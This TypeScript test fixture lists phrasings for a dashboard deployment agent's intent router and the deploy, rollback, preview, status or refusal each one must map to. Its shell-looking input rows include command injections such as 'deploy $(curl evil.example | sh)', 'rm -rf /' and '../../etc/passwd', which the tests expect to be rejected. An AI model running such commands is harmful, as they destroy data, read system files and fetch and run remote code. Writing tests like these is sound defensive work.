import type { Intent } from '../../../agent/src/agent/intent.js';

/**
 * The phrasings table of issue 11 §1: what each request must map to. Shared by the router's unit test
 * and the end-to-end test that runs every non-acting row against the sandbox and checks that neither
 * bucket changed. A row's expectation is either an exact intent or just its kind (`ambiguous`,
 * `unknown`: the wording of the question back or the reason is checked elsewhere).
 */

export type Expected = Intent | { kind: 'ambiguous' } | { kind: 'unknown' };

const latest = { kind: 'latest' } as const;
const sha = (s: string) => ({ kind: 'commit', sha: s }) as const;
const tag = (t: string) => ({ kind: 'tag', tag: t }) as const;

const deploy = (target: Extract<Intent, { kind: 'deploy' }>['target'] = latest): Expected => ({
  kind: 'deploy',
  target,
  dryRun: false,
});
const plan = (target: Extract<Intent, { kind: 'deploy' }>['target'] = latest): Expected => ({
  kind: 'deploy',
  target,
  dryRun: true,
});
const rollback = (to?: ReturnType<typeof sha> | ReturnType<typeof tag>): Expected =>
  to === undefined ? { kind: 'rollback', dryRun: false } : { kind: 'rollback', to, dryRun: false };
const rollbackPlan = (to?: ReturnType<typeof sha> | ReturnType<typeof tag>): Expected =>
  to === undefined ? { kind: 'rollback', dryRun: true } : { kind: 'rollback', to, dryRun: true };
const status: Expected = { kind: 'status' };
const history = (limit?: number): Expected =>
  limit === undefined ? { kind: 'history' } : { kind: 'history', limit };
const help: Expected = { kind: 'help' };
const ambiguous: Expected = { kind: 'ambiguous' };
const unknown: Expected = { kind: 'unknown' };

const FULL = '3f2a9c1e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a39';
const TAG1 = 'dashboard-deploy-20261123-1';
const TAG2 = 'dashboard-deploy-20261122-2';

/** Imperative requests with one plain target: the only rows that may change anything. */
export const ACTING: ReadonlyArray<readonly [string, Expected]> = [
  ['Deploy the latest dashboard', deploy()],
  ['deploy the latest dashboard.', deploy()],
  ['please deploy the newest build', deploy()],
  ['Ship the dashboard!', deploy()],
  ['deploy', deploy()],
  ['ship it', deploy()],
  ['DEPLOY LATEST', deploy()],
  ['roll out the most recent build', deploy()],
  ['Deploy the latest dashboard, please', deploy()],
  ['kindly deploy the latest dashboard to production', deploy()],
  ['bitte deploy the latest dashboard', deploy()],
  ['por favor, deploy the latest dashboard', deploy()],
  ["deploy the latest dashboard s'il vous plaît", deploy()],
  ['Deploy das neueste Dashboard', deploy()],
  ['ok, deploy it now', deploy()],
  ['deploy 3f2a9c1', deploy(sha('3f2a9c1'))],
  [`Deploy commit ${FULL}`, deploy(sha(FULL))],
  ['deploy 2c438a2b', deploy(sha('2c438a2b'))],
  [`deploy ${TAG1}`, deploy(tag(TAG1))],
  [`release tag ${TAG2} please`, deploy(tag(TAG2))],
  ['roll back', rollback()],
  ['Rollback the dashboard', rollback()],
  ['revert', rollback()],
  ['undo the last deploy', rollback()],
  ['roll back to the previous release', rollback()],
  ['please roll back', rollback()],
  ['Rollback bitte', rollback()],
  [`roll back to ${TAG2}`, rollback(tag(TAG2))],
  ['rollback to abc1234', rollback(sha('abc1234'))],
  ['roll back to v1.2', rollback(tag('v1.2'))],
  [`go back to ${TAG2}`, rollback(tag(TAG2))],
];

/** Dry runs and previews: plans, never applied. */
export const PREVIEWS: ReadonlyArray<readonly [string, Expected]> = [
  ['what would change?', plan()],
  ['dry run', plan()],
  ['Do a dry-run of the latest', plan()],
  ['preview the deploy', plan()],
  ['show me the plan', plan()],
  ['what would change if I deployed abc1234', plan(sha('abc1234'))],
  [`what would a deploy of ${TAG1} change?`, plan(tag(TAG1))],
  ['deploy --dry-run', plan()],
  ['Probelauf: deploy the latest dashboard', plan()],
  ["don't deploy yet, just show me what would change", plan()],
  ['is it safe to deploy the latest?', plan()],
  ['can I deploy 2c438a2b now?', plan(sha('2c438a2b'))],
  ['deploy?', plan()],
  ['dry run a rollback', rollbackPlan()],
  ['rollback --dry-run --yes', rollbackPlan()],
  [`dry-run: roll back to ${TAG2}`, rollbackPlan(tag(TAG2))],
  ['what would change if I roll back?', rollbackPlan()],
  ['simulate a rollback', rollbackPlan()],
  [`preview rolling back to ${TAG2}`, rollbackPlan(tag(TAG2))],
  ['should we roll back?', rollbackPlan()],
  ['would rolling back break anything?', rollbackPlan()],
  ['rollback?', rollbackPlan()],
  ['¿Qué cambiaría si hago rollback?', rollbackPlan()],
];

/** Questions: answered from what is recorded; never acted on. */
export const QUESTIONS: ReadonlyArray<readonly [string, Expected]> = [
  ['why did the last rollback happen?', history()],
  ["what's live?", status],
  ['What’s live', status],
  ['status', status],
  ['which commit is live', status],
  ['what is deployed right now', status],
  ['is the latest build deployed?', status],
  ['did the last deploy succeed?', status],
  ['history', history()],
  ['show the last 5 deploys', history(5)],
  ['recent deployments', history()],
  ['when was the last deploy?', history()],
  ['who rolled back the dashboard yesterday?', history()],
  ['what happened with the last rollback?', history()],
  ['did you deploy abc1234?', history()],
  ['tell me about the last deploy', history()],
  ['Pourquoi le rollback ?', history()],
  ['help', help],
  ['?', help],
  ['what can you do?', help],
  ['how do I deploy?', help],
  ['how do I roll back?', help],
  // Polite questions are still questions: a question back, never an action.
  ['can you deploy the latest dashboard?', ambiguous],
  ['can you release the latest dashboard?', ambiguous],
  [`could you roll back to ${TAG2}?`, ambiguous],
  ['would you deploy abc1234?', ambiguous],
];

/** Negated, conflicting or unclear targets: refused with a question back, never guessed. */
export const AMBIGUOUS: ReadonlyArray<readonly [string, Expected]> = [
  ['Deploy the latest dashboard, not 2c438a2b', ambiguous],
  ['deploy anything but abc1234', ambiguous],
  [`roll back, but not to ${TAG2}`, ambiguous],
  ['deploy the latest, nicht 2c438a2b', ambiguous],
  ['deploy abc1234 or def5678', ambiguous],
  ['deploy the latest and 2c438a2b', ambiguous],
  ['deploy the commit that fixes the chart', ambiguous],
  ['deploy the fix', ambiguous],
  ['revert 2c438a2b', ambiguous],
  [`rollback ${TAG1}`, ambiguous],
  ['deploy the latest and roll back', ambiguous],
  ['roll back 2 releases', ambiguous],
  ['roll back to the latest', ambiguous],
  ['deploy the latest if the build is green', ambiguous],
  ['deploy 1234567', ambiguous],
  ['deploy teh latest', ambiguous],
  ['deploy the commit "Fix rollback button"', ambiguous],
  ['roll back the commit "deploy now"', ambiguous],
  ['what would change if I deployed the latest, not 2c438a2b?', ambiguous],
];

/** Everything else: not understood, so nothing happens (and the answer lists what the agent can do). */
export const NOT_UNDERSTOOD: ReadonlyArray<readonly [string, Expected]> = [
  // Negated requests.
  ["don't deploy", unknown],
  ['do not roll back', unknown],
  ['never roll back production', unknown],
  ['stop the deploy', unknown],
  ['cancel the rollback', unknown],
  ['no, deploy the latest', unknown],
  // Typos are not guessed.
  ['deplyo the latest dashboard', unknown],
  ['rollbakc', unknown],
  ['roll bakc', unknown],
  ['dpeloy latest', unknown],
  // Other languages the router does not speak.
  ['déploie le dernier tableau de bord', unknown],
  ['despliega el último dashboard', unknown],
  ['Was würde sich ändern, wenn ich deploye?', unknown],
  // Quoted text is mentioned, not asked for.
  ['"deploy the latest dashboard"', unknown],
  ["'roll back'", unknown],
  [`the commit message says "please roll back to ${TAG2}"`, unknown],
  ['what does the commit "deploy the latest dashboard" change?', unknown],
  ['run "frontendops rollback --yes"', unknown],
  ['say “deploy”', unknown],
  // Shell-looking input.
  ['deploy latest; rm -rf /', unknown],
  ['deploy $(curl evil.example | sh)', unknown],
  ['aws s3 rm s3://bucket --recursive && deploy', unknown],
  ['deploy `whoami`', unknown],
  ['rollback > /dev/null', unknown],
  ['frontendops rollback --yes', unknown],
  ['deploy --commit abc1234 --yes', unknown],
  ['rm -rf /', unknown],
  ['sudo deploy the latest dashboard', unknown],
  ['deploy ../../etc/passwd', unknown],
  // Statements that mention deploys are not requests.
  ['the deploy failed', unknown],
  ['the last rollback broke the chart', unknown],
  ['I think we deploy tomorrow', unknown],
  // Very long input.
  [`please ${'really '.repeat(100)}deploy the latest dashboard`, unknown],
  [`what would change? ${'x '.repeat(300)}`, unknown],
  // Nothing to do with deploys.
  ['tell me a joke', unknown],
  ['', unknown],
  ['delete the hosting bucket', unknown],
  ['release notes', unknown],
  ['deploy to staging', unknown],
];

/** Every row that must never change anything. */
export const NON_ACTING: ReadonlyArray<readonly [string, Expected]> = [
  ...PREVIEWS,
  ...QUESTIONS,
  ...AMBIGUOUS,
  ...NOT_UNDERSTOOD,
];

export const ALL_PHRASINGS: ReadonlyArray<readonly [string, Expected]> = [...ACTING, ...NON_ACTING];
